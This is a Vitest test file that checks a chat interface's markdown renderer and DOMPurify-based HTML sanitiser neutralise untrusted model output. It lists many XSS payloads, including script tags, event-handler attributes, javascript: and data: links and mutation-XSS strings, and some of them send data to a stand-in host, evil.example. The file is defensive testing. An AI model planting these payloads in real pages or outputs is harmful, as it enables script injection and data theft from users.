// @vitest-environment happy-dom
// The chat's markdown is untrusted model output: these XSS payloads must come out inert.
import "../support/happy-dom-node-name";
import { describe, expect, it } from "vitest";
import { renderMarkdown, sanitizeHtml } from "../../src/ui/markdown";

function parse(html: string): HTMLElement {
  const container = document.createElement("div");
  container.innerHTML = html;
  return container;
}

/** Fails when the HTML holds anything that can run script or load from elsewhere. */
function expectInert(html: string): HTMLElement {
  const root = parse(html);
  for (const element of Array.from(root.querySelectorAll("*"))) {
    const tag = element.tagName.toLowerCase();
    expect(["script", "iframe", "object", "embed", "style", "form", "input", "svg", "math", "base", "meta", "link"]).not.toContain(tag);
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name.startsWith("on"), `${tag} has ${attribute.name}`).toBe(false);
      expect(attribute.name).not.toBe("style");
      if (attribute.name === "href" || attribute.name === "src" || attribute.name === "xlink:href") {
        expect(attribute.value.replace(/[\s\u0000-\u001f]/g, "")).not.toMatch(/^(javascript|vbscript|data:text)/i);
      }
    }
    if (tag === "img") expect(element.getAttribute("src") ?? "").toMatch(/^(data:image\/(png|jpeg|gif|webp);base64,|$)/);
  }
  return root;
}

const MARKDOWN_PAYLOADS = [
  "<script>alert(1)</script>",
  "hello <img src=x onerror=alert(1)> world",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "<a href=\"javascript:alert(1)\">x</a>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/leak?data=secret)",
  "<iframe src=\"https://evil.example\"></iframe>",
  "<svg onload=alert(1)><circle/></svg>",
  "<details open ontoggle=alert(1)>",
  "```\" onmouseover=\"alert(1)\nconst a = 1;\n```",
  "```html\n<script>alert(1)</script>\n```",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "[x](https://example.com \"title\\\" onmouseover=alert(1)\")",
  "<style>body{background:url(https://evil.example/x)}</style>",
  "<form action=\"https://evil.example\"><input name=x></form>",
];

describe("renderMarkdown sanitises model output", () => {
  it.each(MARKDOWN_PAYLOADS)("neutralises %s", (payload) => {
    expectInert(renderMarkdown(payload));
  });

  it("shows raw HTML as text instead of dropping it", () => {
    const root = expectInert(renderMarkdown("use a <div> here"));
    expect(root.textContent).toContain("use a <div> here");
    expect(root.querySelector("div")).toBeNull();
  });

  it("never loads remote images: they become links", () => {
    const root = expectInert(renderMarkdown("![chart](https://example.com/c.png)"));
    expect(root.querySelector("img")).toBeNull();
    const link = root.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/c.png");
    expect(link?.textContent).toBe("image: chart");
  });

  it("keeps inline raster images", () => {
    const src = "data:image/png;base64,iVBORw0KGgo=";
    const root = expectInert(renderMarkdown(`![dot](${src})`));
    expect(root.querySelector("img")?.getAttribute("src")).toBe(src);
  });

  it("opens links in a new tab without opener or referrer", () => {
    const root = expectInert(renderMarkdown("see [docs](https://example.com/docs) and <https://example.org>"));
    const links = Array.from(root.querySelectorAll("a"));
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it("drops javascript: links but keeps their text", () => {
    const root = expectInert(renderMarkdown("[click me](javascript:alert(1))"));
    expect(root.textContent).toContain("click me");
    expect(root.querySelector("a")?.hasAttribute("href") ?? false).toBe(false);
  });

  it("renders GFM: tables, task lists, strikethrough", () => {
    const root = expectInert(renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~old~~"));
    expect(root.querySelectorAll("td")).toHaveLength(2);
    expect(root.querySelectorAll(".md-task")).toHaveLength(2);
    expect(root.querySelector("del")?.textContent).toBe("old");
  });
});

describe("sanitizeHtml", () => {
  const HTML_PAYLOADS = [
    "<div onclick=\"alert(1)\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<img src=\"https://evil.example/x.png\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<button onclick=\"alert(1)\">press</button>",
    "<button type=\"submit\" formaction=\"https://evil.example\">press</button>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<img id=\"location\" name=\"cookie\" src=\"data:image/png;base64,AAAA\">",
  ];

  it.each(HTML_PAYLOADS)("neutralises %s", (payload) => {
    expectInert(sanitizeHtml(payload));
  });

  it("forces target=_blank rel=noopener noreferrer on links, even when the input says otherwise", () => {
    const root = parse(sanitizeHtml('<a href="https://example.com" target="_self" rel="opener">x</a>'));
    const link = root.querySelector("a")!;
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("keeps only our own copy buttons, as type=button", () => {
    const root = parse(sanitizeHtml('<button type="submit" data-md-copy="">Copy</button><button>evil</button>'));
    const buttons = root.querySelectorAll("button");
    expect(buttons).toHaveLength(1);
    expect(buttons[0]!.getAttribute("type")).toBe("button");
  });

  it("does not touch other users of DOMPurify (hooks live on our own instance)", async () => {
    const { default: DOMPurify } = await import("dompurify");
    expect(DOMPurify.sanitize('<button type="submit">b</button>')).toContain("<button");
  });
});
